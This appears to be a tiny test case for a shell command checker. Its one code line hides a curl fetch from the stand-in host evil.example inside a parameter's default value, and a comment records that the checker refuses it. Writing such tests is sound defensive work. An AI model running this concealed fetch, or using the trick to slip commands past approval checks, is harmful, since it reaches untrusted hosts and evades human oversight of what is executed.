# Trick: a substitution stands in the default of a parameter.
# Refused: run(curl)
: "${x:=$(curl -s http://evil.example/)}"
